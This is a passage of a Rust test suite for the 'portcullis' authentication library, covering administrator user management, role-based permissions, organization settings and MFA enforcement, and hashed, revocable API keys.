//! The directory: users as an administrator manages them (create, look up, update with
//! re-verification and a notice, list, status, block, delete with its cascade) and roles,
//! permissions and memberships per organization.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use portcullis_test_support as support;

use portcullis::model::{AuthEventKind, OrgId, Organization, PageRequest, UserId};
use portcullis::store::{OrgStore, SessionStore, UserQuery, UserStore};
use portcullis::testing::race;
use portcullis::{
    AuthMethod, Error, MessageKind, NewUser, RequestContext, RoleSpec, SignIn, TokenSet, UserUpdate,
};
use support::authenticator::TestKey;
use support::{Harness, enable_totp, harness};

fn ctx() -> RequestContext {
    RequestContext::new()
        .with_ip("203.0.113.20".parse().unwrap())
        .with_user_agent("Admin console")
}

use support::tokens;

async fn org(h: &Harness, slug: &str) -> OrgId {
    let org = Organization {
        id: OrgId::generate(),
        name: slug.into(),
        slug: slug.into(),
        domains: vec![],
        settings: serde_json::Value::Null,
        created_at: h.auth.now(),
        updated_at: h.auth.now(),
        revision: 0,
    };
    h.store.create_org(&org).await.unwrap();
    org.id
}

/// An email first factor for `user`, as `ctx` asks.
async fn first_factor(h: &Harness, user: UserId, ctx: &RequestContext) -> SignIn {
    h.auth
        .complete_first_factor(user, AuthMethod::Email, None, ctx)
        .await
        .unwrap()
}

async fn sign_in(h: &Harness, user: UserId, org: Option<OrgId>) -> TokenSet {
    let mut ctx = ctx();
    ctx.org_id = org;
    tokens(first_factor(h, user, &ctx).await)
}

#[tokio::test]
async fn users_are_created_looked_up_and_refused_when_malformed_or_taken() {
    let h = harness();
    let users = h.auth.users();
    let mut new = NewUser::with_email("  Ana@Example.com ");
    new.phone = Some("+1 415 555 0100".into());
    new.name = Some("Ana".into());
    new.metadata = serde_json::json!({"plan": "pro"});
    new.email_verified = true;
    let ana = users.create(new, &ctx()).await.unwrap();
    assert_eq!(ana.email.as_ref().unwrap().as_str(), "ana@example.com");
    assert!(ana.email_verified && !ana.phone_verified);
    assert_eq!(users.get(ana.id).await.unwrap(), ana);
    assert_eq!(
        users.get_by_email("ANA@example.com").await.unwrap().id,
        ana.id
    );
    assert_eq!(users.get_by_phone("+14155550100").await.unwrap().id, ana.id);
    assert!(matches!(
        users.get(UserId::generate()).await,
        Err(Error::NotFound { what: "user" })
    ));
    assert!(matches!(
        users.get_by_email("nobody@example.com").await,
        Err(Error::NotFound { .. })
    ));

    for bad in [
        NewUser::default(),
        NewUser::with_email("not-an-email"),
        NewUser::with_phone("555"),
    ] {
        let refused = users.create(bad, &ctx()).await;
        assert!(
            matches!(refused, Err(Error::InvalidInput { .. })),
            "{refused:?}"
        );
    }
    let mut control = NewUser::with_email("bo@example.com");
    control.name = Some("Bo\u{0}".into());
    assert!(matches!(
        users.create(control, &ctx()).await,
        Err(Error::InvalidInput { .. })
    ));

    // Sixteen administrators create one address at once: one account.
    let auth = h.auth.clone();
    let results = race(16, move |_| {
        let auth = auth.clone();
        async move {
            auth.users()
                .create(NewUser::with_email("cy@example.com"), &ctx())
                .await
        }
    })
    .await;
    assert_eq!(results.iter().filter(|r| r.is_ok()).count(), 1);
    assert!(
        results
            .iter()
            .all(|r| r.is_ok() || matches!(r, Err(Error::Conflict { what: "email" })))
    );
}

#[tokio::test]
async fn a_changed_number_starts_unverified_and_the_old_one_is_told_but_an_address_waits_for_its_owner()
 {
    let h = harness();
    let users = h.auth.users();
    let mut new = NewUser::with_email("ana@example.com");
    new.email_verified = true;
    new.phone = Some("+14155550100".into());
    new.phone_verified = true;
    let ana = users.create(new, &ctx()).await.unwrap();
    let mut bo = NewUser::with_email("bo@example.com");
    bo.phone = Some("+14155550199".into());
    users.create(bo, &ctx()).await.unwrap();

    let mut update = UserUpdate::default();
    update.phone = Some(Some("+14155550111".into()));
    update.name = Some(Some("Ana N.".into()));
    let changed = users.update(ana.id, &update, &ctx()).await.unwrap();
    assert_eq!(changed.phone.as_ref().unwrap().as_str(), "+14155550111");
    assert!(!changed.phone_verified, "the new number is not proven");
    assert_ne!(changed.security_stamp, ana.security_stamp);
    assert_eq!(changed.name.as_deref(), Some("Ana N."));
    let notice = h.texts().await.pop().unwrap();
    assert_eq!(notice.to.as_str(), "+14155550100");
    assert_eq!(notice.message.kind, MessageKind::ContactChanged);
    assert!(notice.message.code.is_none() && notice.message.link.is_none());
    assert!(
        !notice.body.contains("+14155550111"),
        "the new number is not disclosed"
    );
    assert!(users.get_by_phone("+14155550100").await.is_err());

    // The administrator can vouch for the new number.
    let mut vouch = UserUpdate::default();
    vouch.phone_verified = Some(true);
    assert!(
        users
            .update(ana.id, &vouch, &ctx())
            .await
            .unwrap()
            .phone_verified
    );

    // A new email address is not set by an update (ACC-01: see tests/email_change.rs).
    let mut moved = UserUpdate::default();
    moved.email = Some(Some("ana@new.example".into()));
    moved.email_verified = Some(true);
    let refused = users.update(ana.id, &moved, &ctx()).await;
    assert!(
        matches!(refused, Err(Error::InvalidInput { field: "email", .. })),
        "{refused:?}"
    );
    let mut taken = UserUpdate::default();
    taken.phone = Some(Some("+14155550199".into()));
    let clash = users.update(ana.id, &taken, &ctx()).await;
    assert!(
        matches!(clash, Err(Error::Conflict { what: "phone" })),
        "{clash:?}"
    );
    let mut nothing_left = UserUpdate::default();
    nothing_left.email = Some(None);
    nothing_left.phone = Some(None);
    let refused = users.update(ana.id, &nothing_left, &ctx()).await;
    assert!(
        matches!(refused, Err(Error::InvalidInput { .. })),
        "{refused:?}"
    );
    let ana = users.get(ana.id).await.unwrap();
    assert_eq!(ana.email.unwrap().as_str(), "ana@example.com");
    assert_eq!(ana.phone.unwrap().as_str(), "+14155550111");
    assert!(h.mails().await.is_empty(), "refused updates send nothing");
    assert_eq!(h.texts().await.len(), 1);

    // Removing the address tells it.
    let mut removed = UserUpdate::default();
    removed.email = Some(None);
    let changed = users.update(ana.id, &removed, &ctx()).await.unwrap();
    assert!(changed.email.is_none() && !changed.email_verified);
    let notice = h.last_mail().await;
    assert_eq!(notice.to.as_str(), "ana@example.com");
    assert_eq!(notice.message.kind, MessageKind::ContactChanged);
}

#[tokio::test]
async fn blocking_ends_every_session_at_once() {
    let h = harness();
    let users = h.auth.users();
    let ana = users
        .create(NewUser::with_email("ana@example.com"), &ctx())
        .await
        .unwrap();
    let first = sign_in(&h, ana.id, None).await;
    let second = sign_in(&h, ana.id, None).await;
    h.auth
        .tokens()
        .verify_live(&first.access_token)
        .await
        .unwrap();

    users.block(ana.id, &ctx()).await.unwrap();
    let status = users.status(ana.id).await.unwrap();
    assert!(status.blocked);
    for set in [&first, &second] {
        let live = h.auth.tokens().verify_live(&set.access_token).await;
        assert!(matches!(live, Err(Error::SessionRevoked)), "{live:?}");
        let refreshed = h.auth.tokens().refresh(&set.refresh_token, &ctx()).await;
        assert!(refreshed.is_err(), "{refreshed:?}");
    }
    let refused = h
        .auth
        .complete_first_factor(ana.id, AuthMethod::Email, None, &ctx())
        .await;
    assert!(
        matches!(refused, Err(Error::InvalidCredentials)),
        "{refused:?}"
    );

    users.unblock(ana.id, &ctx()).await.unwrap();
    sign_in(&h, ana.id, None).await;
    let log = h
        .auth
        .audit()
        .login_log(ana.id, &PageRequest::first(20))
        .await
        .unwrap();
    let kinds: Vec<AuthEventKind> = log.items.iter().map(|e| e.kind).collect();
    assert!(
        kinds.contains(&AuthEventKind::UserBlocked)
            && kinds.contains(&AuthEventKind::UserUnblocked)
    );
}

#[tokio::test]
async fn status_tells_what_an_account_signs_in_with() {
    let h = harness();
    let users = h.auth.users();
    let ana = users
        .create(NewUser::with_email("ana@example.com"), &ctx())
        .await
        .unwrap();
    let status = users.status(ana.id).await.unwrap();
    assert!(!status.totp && !status.password && status.passkeys == 0 && status.backup_codes == 0);
    enable_totp(&h, ana.id).await;
    let status = users.status(ana.id).await.unwrap();
    assert!(status.totp);
    assert_eq!(status.backup_codes, 10);
}

#[tokio::test]
async fn deleting_a_user_takes_everything_theirs_and_keeps_an_anonymous_log() {
    let h = harness();
    let acme = org(&h, "acme").await;
    // Ana signs up with a passkey in Acme, adds TOTP, signs in.
    let passkeys = h.auth.passkeys();
    let mut key = TestKey::new("https://app.example.com");
    let who = portcullis::Registrant::NewUser {
        email: "ana@example.com".parse().unwrap(),
        name: None,
    };
    let in_acme = ctx().with_org(acme);
    let (ceremony, options) = passkeys.start_registration(who, &in_acme).await.unwrap();
    let registered = passkeys
        .finish_registration(&ceremony, &key.register(&options), None, &in_acme)
        .await
        .unwrap();
    let pending = registered.pending.unwrap();
    let session = tokens(
        support::confirm_sign_up(&h, &pending, &in_acme)
            .await
            .unwrap(),
    );
    let ana = h
        .auth
        .tokens()
        .verify(&session.access_token)
        .await
        .unwrap()
        .sub;
    enable_totp(&h, ana).await;
    assert_eq!(h.auth.rbac().memberships(ana).await.unwrap().len(), 1);

    h.auth.users().delete(ana, &ctx()).await.unwrap();
    assert!(matches!(
        h.auth.users().get(ana).await,
        Err(Error::NotFound { .. })
    ));
    assert!(
        h.store
            .get_passkey(&registered.passkey.id)
            .await
            .unwrap()
            .is_none()
    );
    assert!(h.store.list_totp_factors(ana).await.unwrap().is_empty());
    assert_eq!(h.store.count_backup_codes(ana).await.unwrap(), 0);
    assert!(
        h.store
            .list_user_sessions(ana, h.auth.now())
            .await
            .unwrap()
            .is_empty()
    );
    assert!(h.store.list_memberships(ana).await.unwrap().is_empty());
    let members = h
        .store
        .list_members(acme, &PageRequest::first(10))
        .await
        .unwrap();
    assert!(members.items.is_empty());
    let refreshed = h
        .auth
        .tokens()
        .refresh(&session.refresh_token, &ctx())
        .await;
    assert!(refreshed.is_err());
    // The passkey no longer signs in; the address is free again.
    let (ceremony, options) = passkeys.start_login(None, &ctx()).await.unwrap();
    let refused = passkeys
        .finish_login(&ceremony, &key.sign(&options), &ctx())
        .await;
    assert!(
        matches!(refused, Err(Error::InvalidCredentials)),
        "{refused:?}"
    );
    h.auth
        .users()
        .create(NewUser::with_email("ana@example.com"), &ctx())
        .await
        .unwrap();

    // The log keeps every event under the id, with none of her addresses or browsers
    // left; the deletion itself is logged last, with the administrator's.
    let log = h
        .auth
        .audit()
        .login_log(ana, &PageRequest::first(50))
        .await
        .unwrap();
    let (deletion, hers) = log.items.split_first().unwrap();
    assert_eq!(deletion.kind, AuthEventKind::UserDeleted);
    assert_eq!(deletion.user_agent.as_deref(), Some("Admin console"));
    assert!(hers.len() >= 3, "{hers:?}");
    assert!(
        hers.iter()
            .all(|e| e.ip.is_none() && e.user_agent.is_none())
    );
    assert!(matches!(
        h.auth.users().delete(ana, &ctx()).await,
        Err(Error::NotFound { .. })
    ));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn listing_pages_stay_stable_while_users_are_added() {
    let h = harness();
    let users = h.auth.users();
    for i in 0..25 {
        users
            .create(
                NewUser::with_email(format!("early{i:02}@example.com")),
                &ctx(),
            )
            .await
            .unwrap();
    }
    let adder = {
        let auth = h.auth.clone();
        tokio::spawn(async move {
            for i in 0..25 {
                auth.users()
                    .create(
                        NewUser::with_email(format!("late{i:02}@example.com")),
                        &ctx(),
                    )
                    .await
                    .unwrap();
            }
        })
    };
    let mut seen = Vec::new();
    let mut page = users
        .list(&UserQuery::all(), &PageRequest::first(7))
        .await
        .unwrap();
    loop {
        seen.extend(page.items.iter().map(|u| u.id));
        let Some(cursor) = page.next_cursor.clone() else {
            break;
        };
        page = users
            .list(&UserQuery::all(), &PageRequest::after(7, cursor))
            .await
            .unwrap();
    }
    adder.await.unwrap();
    let mut unique = seen.clone();
    unique.dedup();
    assert_eq!(unique.len(), seen.len(), "no user listed twice");
    let early: Vec<UserId> = users
        .list(&UserQuery::email_prefix("early"), &PageRequest::first(100))
        .await
        .unwrap()
        .items
        .iter()
        .map(|u| u.id)
        .collect();
    assert_eq!(early.len(), 25);
    assert!(
        early.iter().all(|id| seen.contains(id)),
        "every user there throughout is listed"
    );
}

#[tokio::test]
async fn roles_grant_permissions_with_wildcards_and_deletions_cascade() {
    let h = harness();
    let rbac = h.auth.rbac();
    let acme = org(&h, "acme").await;
    let other = org(&h, "other").await;
    let write = rbac
        .define_permission(acme, "invoices:write", Some("Create invoices"))
        .await
        .unwrap();
    rbac.define_permission(acme, "invoices:read", None)
        .await
        .unwrap();
    rbac.define_permission(acme, "payments:read", None)
        .await
        .unwrap();
    for bad in ["invoices", "Invoices:read", "invoices:*"] {
        let refused = rbac.define_permission(acme, bad, None).await;
        assert!(
            matches!(refused, Err(Error::InvalidInput { .. })),
            "{bad}: {refused:?}"
        );
    }
    let again = rbac.define_permission(acme, "invoices:read", None).await;
    assert!(matches!(again, Err(Error::Conflict { .. })), "{again:?}");

    let clerk = rbac
        .create_role(acme, &RoleSpec::new("clerk", &["invoices:*"]))
        .await
        .unwrap();
    let auditor = rbac
        .create_role(acme, &RoleSpec::new("auditor", &["payments:read"]))
        .await
        .unwrap();
    let undefined = rbac
        .create_role(acme, &RoleSpec::new("x", &["refunds:*"]))
        .await;
    assert!(
        matches!(undefined, Err(Error::InvalidInput { .. })),
        "{undefined:?}"
    );
    let elsewhere = rbac
        .create_role(other, &RoleSpec::new("clerk", &["invoices:read"]))
        .await;
    assert!(
        matches!(elsewhere, Err(Error::InvalidInput { .. })),
        "permissions are per organization"
    );
    let dup = rbac.create_role(acme, &RoleSpec::new("clerk", &[])).await;
    assert!(
        matches!(dup, Err(Error::Conflict { what: "role" })),
        "{dup:?}"
    );

    let ana = h
        .auth
        .users()
        .create(NewUser::with_email("ana@example.com"), &ctx())
        .await
        .unwrap();
    let unknown_role = rbac
        .set_roles(
            ana.id,
            acme,
            &[portcullis::model::RoleId::generate()],
            &ctx(),
        )
        .await;
    assert!(
        matches!(unknown_role, Err(Error::NotFound { .. })),
        "{unknown_role:?}"
    );
    rbac.add_member(ana.id, acme, &[clerk.id, auditor.id], &ctx())
        .await
        .unwrap();
    assert!(rbac.check(ana.id, acme, "invoices:write").await.unwrap());
    assert!(
        rbac.check(ana.id, acme, "invoices:void").await.unwrap(),
        "the wildcard grants any action"
    );
    assert!(rbac.check(ana.id, acme, "payments:read").await.unwrap());
    assert!(!rbac.check(ana.id, acme, "payments:write").await.unwrap());
    assert!(
        !rbac.check(ana.id, other, "invoices:read").await.unwrap(),
        "not a member there"
    );
    assert!(!rbac.check(ana.id, acme, "not a permission").await.unwrap());

    // A session in Acme carries the roles and permissions.
    let set = sign_in(&h, ana.id, Some(acme)).await;
    let claims = h.auth.tokens().verify(&set.access_token).await.unwrap();
    let mut roles = claims.roles.clone();
    roles.sort();
    assert_eq!(roles, ["auditor", "clerk"]);
    assert!(claims.has_permission("invoices:write") && claims.has_permission("payments:read"));

    // Deleting the permission takes it out of the auditor role; deleting the clerk role
    // takes it out of Ana's membership.
    let payments = rbac
        .permissions(acme)
        .await
        .unwrap()
        .into_iter()
        .find(|p| p.name.as_str() == "payments:read")
        .unwrap();
    rbac.delete_permission(acme, payments.id).await.unwrap();
    assert!(
        rbac.role(acme, auditor.id)
            .await
            .unwrap()
            .permission_ids
            .is_empty()
    );
    assert!(!rbac.check(ana.id, acme, "payments:read").await.unwrap());
    rbac.delete_role(acme, clerk.id).await.unwrap();
    assert_eq!(
        rbac.memberships(ana.id).await.unwrap()[0].role_ids,
        [auditor.id]
    );
    assert!(!rbac.check(ana.id, acme, "invoices:write").await.unwrap());
    assert!(matches!(
        rbac.delete_role(acme, clerk.id).await,
        Err(Error::NotFound { .. })
    ));

    // Renaming and re-describing.
    let renamed = rbac
        .update_role(
            acme,
            auditor.id,
            &RoleSpec::new("reader", &["invoices:read"]).describe("Reads invoices"),
        )
        .await
        .unwrap();
    assert_eq!(
        (renamed.name.as_str(), renamed.description.as_deref()),
        ("reader", Some("Reads invoices"))
    );
    let described = rbac
        .describe_permission(acme, write.id, Some("Write invoices"))
        .await
        .unwrap();
    assert_eq!(described.description.as_deref(), Some("Write invoices"));
    assert!(rbac.remove_member(ana.id, acme).await.unwrap());
    assert!(rbac.memberships(ana.id).await.unwrap().is_empty());
}

#[tokio::test]
async fn organizations_have_unique_slugs_and_domains_and_public_configs() {
    let h = harness();
    let orgs = h.auth.orgs();
    let mut new = portcullis::NewOrg::new("Acme Inc.", "acme");
    new.domains = vec!["Login.Acme.example.".into()];
    new.settings.branding.primary_color = Some("#1f4fd1".into());
    new.settings.sign_in_methods.sms_code = false;
    let acme = orgs.create(new).await.unwrap();
    assert_eq!(acme.domains, ["login.acme.example"]);
    assert_eq!(orgs.get_by_slug("acme").await.unwrap().id, acme.id);

    for (slug, domain) in [("acme", "other.example"), ("acme-2", "login.acme.example")] {
        let mut clash = portcullis::NewOrg::new("Clash", slug);
        clash.domains = vec![domain.into()];
        let refused = orgs.create(clash).await;
        assert!(
            matches!(refused, Err(Error::Conflict { .. })),
            "{slug}: {refused:?}"
        );
    }
    for bad in ["", "Acme", "-acme", "a b"] {
        let refused = orgs.create(portcullis::NewOrg::new("Bad", bad)).await;
        assert!(
            matches!(refused, Err(Error::InvalidInput { .. })),
            "{bad:?}: {refused:?}"
        );
    }
    let mut bad_settings = portcullis::NewOrg::new("Bad", "bad");
    bad_settings.settings.branding.logo_url = Some("http://insecure.example/logo.png".into());
    assert!(matches!(
        orgs.create(bad_settings).await,
        Err(Error::InvalidInput { .. })
    ));

    // Sixteen creations of one slug: one organization.
    let auth = h.auth.clone();
    let results = race(16, move |_| {
        let auth = auth.clone();
        async move {
            auth.orgs()
                .create(portcullis::NewOrg::new("Race", "race"))
                .await
        }
    })
    .await;
    assert_eq!(results.iter().filter(|r| r.is_ok()).count(), 1);

    // Apps: a confidential one's secret is shown once and stored only hashed.
    let mut web = portcullis::directory::NewApp::default();
    web.name = "Web".into();
    web.redirect_uris = vec!["https://acme.example/callback".into()];
    web.confidential = true;
    let created = orgs.create_app(acme.id, &web).await.unwrap();
    let secret = created.client_secret.clone().unwrap();
    let stored = format!(
        "{:?}",
        h.store.get_app(&created.app.client_id).await.unwrap()
    );
    assert!(
        !stored.contains(secret.secret()),
        "the secret is not stored"
    );
    let mut bad_app = web.clone();
    bad_app.redirect_uris = vec!["https://acme.example/cb#frag".into()];
    assert!(matches!(
        orgs.create_app(acme.id, &bad_app).await,
        Err(Error::InvalidInput { .. })
    ));

    // What a login page learns: methods and branding, nothing secret.
    let config = orgs
        .config_by_client_id(created.app.client_id.as_str())
        .await
        .unwrap();
    assert_eq!(config.org_id, acme.id);
    assert!(!config.sign_in_methods.sms_code && config.sign_in_methods.passkey);
    assert_eq!(config.branding.primary_color.as_deref(), Some("#1f4fd1"));
    let json = serde_json::to_string(&config).unwrap();
    assert!(
        !json.contains(secret.secret()) && !json.contains("secret"),
        "{json}"
    );
    let by_domain = orgs.config_by_domain("LOGIN.acme.example").await.unwrap();
    assert_eq!(by_domain.org_id, acme.id);
    assert!(matches!(
        orgs.config_by_domain("nowhere.example").await,
        Err(Error::NotFound { .. })
    ));
    assert!(matches!(
        orgs.config_by_client_id("app_unknown").await,
        Err(Error::NotFound { .. })
    ));

    // Updates: a new slug and settings; the old slug is free again.
    let mut update = portcullis::OrgUpdate::default();
    update.slug = Some("acme-corp".into());
    let mut settings = portcullis::OrgSettings::default();
    settings.mfa = portcullis::directory::MfaRequirement::Required;
    update.settings = Some(settings);
    let updated = orgs.update(acme.id, &update).await.unwrap();
    assert_eq!(updated.slug, "acme-corp");
    assert_eq!(
        orgs.settings(Some(acme.id)).await.unwrap().mfa,
        portcullis::directory::MfaRequirement::Required
    );
    orgs.create(portcullis::NewOrg::new("New Acme", "acme"))
        .await
        .unwrap();

    // Deleting takes its apps along.
    orgs.delete(acme.id).await.unwrap();
    assert!(matches!(
        orgs.get(acme.id).await,
        Err(Error::NotFound { .. })
    ));
    assert!(
        h.store
            .get_app(&created.app.client_id)
            .await
            .unwrap()
            .is_none()
    );
}

#[tokio::test]
async fn the_default_organization_is_made_once_and_stays() {
    let h = harness();
    let orgs = h.auth.orgs();
    let auth = h.auth.clone();
    let results = race(8, move |_| {
        let auth = auth.clone();
        async move { auth.orgs().default_org().await.map(|o| o.id) }
    })
    .await;
    let first = results[0].as_ref().unwrap();
    assert!(
        results.iter().all(|r| r.as_ref().ok() == Some(first)),
        "{results:?}"
    );
    let default = orgs.default_org().await.unwrap();
    assert_eq!(default.slug, "default");
    assert!(matches!(
        orgs.delete(default.id).await,
        Err(Error::Forbidden)
    ));
    let mut rename = portcullis::OrgUpdate::default();
    rename.slug = Some("main".into());
    assert!(matches!(
        orgs.update(default.id, &rename).await,
        Err(Error::InvalidInput { .. })
    ));
    // Requests naming no organization run under its settings.
    assert_eq!(
        orgs.settings(None).await.unwrap(),
        portcullis::OrgSettings::default()
    );
}

async fn org_with(h: &Harness, slug: &str, settings: portcullis::OrgSettings) -> OrgId {
    let mut new = portcullis::NewOrg::new(slug, slug);
    new.settings = settings;
    h.auth.orgs().create(new).await.unwrap().id
}

async fn org_requiring(
    h: &Harness,
    slug: &str,
    mfa: portcullis::directory::MfaRequirement,
) -> OrgId {
    let mut settings = portcullis::OrgSettings::default();
    settings.mfa = mfa;
    org_with(h, slug, settings).await
}

async fn member(h: &Harness, email: &str, org: OrgId) -> UserId {
    let ctx = ctx().with_org(org);
    h.auth
        .users()
        .create(NewUser::with_email(email), &ctx)
        .await
        .unwrap()
        .id
}

#[tokio::test]
async fn an_organization_that_turns_a_method_off_refuses_it() {
    let h = harness();
    let mut settings = portcullis::OrgSettings::default();
    settings.sign_in_methods.sms_code = false;
    settings.sign_in_methods.password = false;
    let acme = org_with(&h, "acme", settings).await;
    let in_acme = ctx().with_org(acme);
    let sms = h.auth.codes().sms().send("+14155550100", &in_acme).await;
    assert!(matches!(sms, Err(Error::Forbidden)), "{sms:?}");
    let pw = portcullis::crypto::Password::new("correct horse battery staple");
    let password = h
        .auth
        .passwords()
        .sign_in("ana@example.com", &pw, &in_acme)
        .await;
    assert!(matches!(password, Err(Error::Forbidden)), "{password:?}");
    assert!(h.texts().await.is_empty(), "nothing was sent");
    // Email codes are still on there, and SMS elsewhere.
    h.auth
        .codes()
        .email()
        .send("ana@example.com", &in_acme)
        .await
        .unwrap();
    h.auth
        .codes()
        .sms()
        .send("+14155550100", &ctx())
        .await
        .unwrap();
}

#[tokio::test]
async fn an_organization_never_waives_a_members_own_second_factor() {
    let h = harness();
    let relaxed = org_requiring(&h, "relaxed", portcullis::directory::MfaRequirement::Off).await;
    let ana = member(&h, "ana@example.com", relaxed).await;
    let in_relaxed = ctx().with_org(relaxed);
    let before = first_factor(&h, ana, &in_relaxed).await;
    assert!(matches!(before, SignIn::Complete(_)), "{before:?}");
    // Once she enrols TOTP it is asked for, whatever the organization says.
    enable_totp(&h, ana).await;
    let after = first_factor(&h, ana, &in_relaxed).await;
    assert!(matches!(after, SignIn::MfaRequired(_)), "{after:?}");
}

#[tokio::test]
async fn an_organization_requiring_mfa_makes_a_member_without_one_enrol_first() {
    let h = harness();
    let strict = org_requiring(
        &h,
        "strict",
        portcullis::directory::MfaRequirement::Required,
    )
    .await;
    let bo = member(&h, "bo@example.com", strict).await;
    let in_strict = ctx().with_org(strict);
    let first = first_factor(&h, bo, &in_strict).await;
    let SignIn::MfaEnrollmentRequired(step) = first else {
        panic!("expected enrolment, got {first:?}")
    };
    let mfa = h.auth.mfa();
    // The enrolment token proves nothing by itself.
    let proof = portcullis::MfaProof::Totp(portcullis::crypto::OneTimeCode::new("000000"));
    let refused = mfa.verify(&step.enrollment_token, &proof, &in_strict).await;
    assert!(matches!(refused, Err(Error::InvalidToken)), "{refused:?}");

    let enrollment = mfa
        .enroll_totp_for_sign_in(&step.enrollment_token, &in_strict)
        .await
        .unwrap();
    let secret = support::base32_decode(&enrollment.secret_base32);
    let wrong = mfa
        .confirm_totp_for_sign_in(
            &step.enrollment_token,
            &portcullis::crypto::OneTimeCode::new("000000"),
            &in_strict,
        )
        .await;
    assert!(wrong.is_err(), "{wrong:?}");
    let (backup, signed_in) = mfa
        .confirm_totp_for_sign_in(
            &step.enrollment_token,
            &support::app_code(&h, &secret),
            &in_strict,
        )
        .await
        .unwrap();
    assert_eq!(backup.len(), 10);
    let claims = h
        .auth
        .tokens()
        .verify(&tokens(signed_in).access_token)
        .await
        .unwrap();
    assert_eq!(claims.amr, ["email", "otp", "mfa"]);
    assert_eq!((claims.acr.as_str(), claims.org), ("aal2", Some(strict)));
    // Spent; and the next sign-in takes the ordinary MFA step.
    let again = mfa
        .enroll_totp_for_sign_in(&step.enrollment_token, &in_strict)
        .await;
    assert!(matches!(again, Err(Error::InvalidToken)), "{again:?}");
    let next = first_factor(&h, bo, &in_strict).await;
    let SignIn::MfaRequired(challenge) = next else {
        panic!("{next:?}")
    };
    // An MFA step's token enrols nothing.
    let refused = mfa
        .enroll_totp_for_sign_in(&challenge.mfa_token, &in_strict)
        .await;
    assert!(matches!(refused, Err(Error::InvalidToken)), "{refused:?}");
}

#[tokio::test]
async fn api_keys_are_shown_once_stored_hashed_and_die_when_revoked_or_expired() {
    let h = harness();
    let acme = org(&h, "acme").await;
    let keys = h.auth.api_keys();
    let mut new = portcullis::directory::NewApiKey::new("CI deploys", &["users:*", "orgs:read"]);
    new.expires_in = Some(std::time::Duration::from_secs(3600));
    let created = keys.create(acme, &new).await.unwrap();
    let secret = created.secret.clone();
    assert!(secret.secret().starts_with("lk_") && secret.secret().len() > 40);
    assert!(
        !String::from_utf8_lossy(&h.store.dump()).contains(secret.secret()),
        "stored hashed"
    );

    let verified = keys.verify(&secret).await.unwrap();
    assert_eq!((verified.id, verified.org_id), (created.info.id, acme));
    assert!(verified.allows("users:delete") && verified.allows("orgs:read"));
    assert!(!verified.allows("orgs:write"));
    assert_eq!(
        keys.list(acme).await.unwrap()[0].last_used_at,
        Some(h.auth.now())
    );

    for wrong in ["", "lk_", "lk_nope", "not-a-key", &"lk_x".repeat(100)] {
        let refused = keys.verify(&portcullis::crypto::ApiKey::new(wrong)).await;
        assert!(
            matches!(refused, Err(Error::InvalidCredentials)),
            "{wrong:?}: {refused:?}"
        );
    }
    let bad_scope = keys
        .create(
            acme,
            &portcullis::directory::NewApiKey::new("x", &["users"]),
        )
        .await;
    assert!(
        matches!(bad_scope, Err(Error::InvalidInput { .. })),
        "{bad_scope:?}"
    );
    let nowhere = keys.create(OrgId::generate(), &new).await;
    assert!(
        matches!(nowhere, Err(Error::NotFound { .. })),
        "{nowhere:?}"
    );

    // Expiry, then revocation of another.
    h.clock.advance(std::time::Duration::from_secs(3600));
    assert!(matches!(
        keys.verify(&secret).await,
        Err(Error::InvalidCredentials)
    ));
    let other = keys
        .create(
            acme,
            &portcullis::directory::NewApiKey::new("Ops", &["users:read"]),
        )
        .await
        .unwrap();
    keys.verify(&other.secret).await.unwrap();
    keys.revoke(acme, other.info.id).await.unwrap();
    assert!(matches!(
        keys.verify(&other.secret).await,
        Err(Error::InvalidCredentials)
    ));
    assert!(keys.list(acme).await.unwrap()[1].revoked_at.is_some());
    assert!(matches!(
        keys.revoke(OrgId::generate(), other.info.id).await,
        Err(Error::NotFound { .. })
    ));
}

#[tokio::test]
async fn an_enrolment_token_dies_with_a_block() {
    let h = harness();
    let strict = org_requiring(
        &h,
        "strict",
        portcullis::directory::MfaRequirement::Required,
    )
    .await;
    let bo = member(&h, "bo@example.com", strict).await;
    let in_strict = ctx().with_org(strict);
    let SignIn::MfaEnrollmentRequired(step) = first_factor(&h, bo, &in_strict).await else {
        panic!("expected enrolment")
    };
    let enrollment = h
        .auth
        .mfa()
        .enroll_totp_for_sign_in(&step.enrollment_token, &in_strict)
        .await
        .unwrap();
    h.auth.users().block(bo, &ctx()).await.unwrap();
    let secret = support::base32_decode(&enrollment.secret_base32);
    let refused = h
        .auth
        .mfa()
        .confirm_totp_for_sign_in(
            &step.enrollment_token,
            &support::app_code(&h, &secret),
            &in_strict,
        )
        .await;
    assert!(
        matches!(refused, Err(Error::InvalidCredentials)),
        "{refused:?}"
    );
    assert!(
        !h.auth.users().status(bo).await.unwrap().totp,
        "nothing was enrolled"
    );
}

#[tokio::test]
async fn a_token_leaves_out_permissions_past_its_limit() {
    let h = harness();
    let rbac = h.auth.rbac();
    let acme = org(&h, "acme").await;
    let mut names = Vec::new();
    // 200 permissions of about 30 characters: over the claims budget.
    for i in 0..200 {
        let name = format!("billing_resource_{i:03}:export");
        rbac.define_permission(acme, &name, None).await.unwrap();
        names.push(name);
    }
    let refs: Vec<&str> = names.iter().map(String::as_str).collect();
    let everything = rbac
        .create_role(acme, &RoleSpec::new("everything", &refs))
        .await
        .unwrap();
    let ana = member(&h, "ana@example.com", acme).await;
    rbac.add_member(ana, acme, &[everything.id], &ctx())
        .await
        .unwrap();
    let set = sign_in(&h, ana, Some(acme)).await;
    let claims = h.auth.tokens().verify(&set.access_token).await.unwrap();
    assert!(claims.perms_omitted && claims.perms.is_empty() && claims.roles.is_empty());
    assert!(!claims.has_permission("billing_resource_007:export"));
    assert!(
        rbac.check(ana, acme, "billing_resource_007:export")
            .await
            .unwrap()
    );
    let token = set.access_token.secret();
    assert!(token.len() < 8 * 1024, "{} bytes", token.len());
}

#[tokio::test]
async fn users_are_filtered_by_verification_creation_time_and_organization() {
    let h = harness();
    let users = h.auth.users();
    let acme = org(&h, "acme").await;
    let mut verified = NewUser::with_email("early@example.com");
    verified.email_verified = true;
    let early = users.create(verified, &ctx()).await.unwrap();
    let start = h.auth.now();
    h.clock.advance(std::time::Duration::from_secs(60));
    let middle = users
        .create(
            NewUser::with_email("middle@example.com"),
            &ctx().with_org(acme),
        )
        .await
        .unwrap();
    h.clock.advance(std::time::Duration::from_secs(60));
    let late = users
        .create(
            NewUser::with_email("late@example.com"),
            &ctx().with_org(acme),
        )
        .await
        .unwrap();

    let ids = |page: portcullis::model::Page<portcullis::model::User>| {
